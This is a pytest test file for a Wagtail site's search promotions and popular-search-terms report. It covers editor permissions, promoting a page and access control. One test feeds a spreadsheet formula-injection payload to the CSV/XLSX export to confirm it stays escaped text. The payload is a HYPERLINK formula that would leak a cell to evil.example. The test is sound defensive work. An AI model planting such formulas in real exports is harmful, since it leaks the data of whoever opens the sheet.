"""Editors (Wagtail's „Editors“ group) promote results and see the popular search terms."""

import pytest
from django.contrib.auth.models import Group
from wagtail.contrib.search_promotions.models import Query
from wagtail.models import Page

from tests.search.helpers import promoted_urls, search_html


@pytest.fixture
def search_editor(db, django_user_model):
    user = django_user_model.objects.create_user(username="redaktion", password="x")
    user.groups.add(Group.objects.get(name="Editors"))
    return user


@pytest.fixture
def editor_client(client, search_editor):
    client.force_login(search_editor)
    return client


def test_editors_and_moderators_may_manage_promotions(db):
    for name in ["Editors", "Moderators"]:
        codenames = set(
            Group.objects.get(name=name)
            .permissions.filter(content_type__app_label="wagtailsearchpromotions")
            .values_list("codename", flat=True)
        )
        assert codenames == {
            "add_searchpromotion",
            "change_searchpromotion",
            "delete_searchpromotion",
        }


def test_an_editor_promotes_a_page_in_the_admin(editor_client, demo_home):
    target = Page.objects.get(url_path="/home/projekte/haus-des-ankommens/")
    assert editor_client.get("/admin/searchpicks/").status_code == 200
    response = editor_client.post(
        "/admin/searchpicks/add/",
        {
            "query_string": "Ankommen",
            "editors_picks-TOTAL_FORMS": "1",
            "editors_picks-INITIAL_FORMS": "0",
            "editors_picks-MIN_NUM_FORMS": "0",
            "editors_picks-MAX_NUM_FORMS": "1000",
            "editors_picks-0-page": str(target.pk),
            "editors_picks-0-external_link_url": "",
            "editors_picks-0-external_link_text": "",
            "editors_picks-0-description": "Die zentrale Anlaufstelle für Neuzugewanderte.",
            "editors_picks-0-ORDER": "1",
            "editors_picks-0-DELETE": "",
        },
    )
    assert response.status_code == 302
    assert Query.get("ankommen").editors_picks.get().page_id == target.pk

    _response, html = search_html(editor_client, "Ankommen")
    assert promoted_urls(html) == ["/projekte/haus-des-ankommens/"]
    assert "Die zentrale Anlaufstelle für Neuzugewanderte." in html


def test_an_editor_sees_the_popular_search_terms(editor_client, demo_home):
    for _ in range(3):
        search_html(editor_client, "Malstatt")
    search_html(editor_client, "Sprachkurs")

    response = editor_client.get("/admin/suchbegriffe/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Häufige Suchbegriffe" in html
    assert html.index("malstatt") < html.index("sprachkurs")

    menu = editor_client.get("/admin/").content.decode()
    assert "/admin/suchbegriffe/" in menu


def test_users_without_the_promotion_permissions_do_not_see_the_search_terms(
    client, django_user_model
):
    editors = Group.objects.get(name="Editors")
    editors.permissions.remove(
        *editors.permissions.filter(content_type__app_label="wagtailsearchpromotions")
    )
    user = django_user_model.objects.create_user(username="gast", password="x")
    user.groups.add(editors)
    client.force_login(user)
    response = client.get("/admin/suchbegriffe/")
    assert response.status_code in (302, 403)
    assert "/admin/suchbegriffe/" not in client.get("/admin/").content.decode()


@pytest.mark.parametrize("term", ['=hyperlink("http://evil.example/?x="&a2,"klick")', "@sum(a1)"])
def test_search_terms_export_keeps_visitors_terms_text(editor_client, term):
    """Visitors type the search terms: the report's CSV and XLSX never hold a formula."""
    import csv
    import io

    from openpyxl import load_workbook

    Query.get(term).add_hit()
    response = editor_client.get("/admin/suchbegriffe/?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert ["'" + term] in [row[:1] for row in rows]
    response = editor_client.get("/admin/suchbegriffe/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [cell] = [cell for row in sheet.iter_rows() for cell in row if cell.value == term]
    assert cell.data_type == "s"
    assert cell.quotePrefix
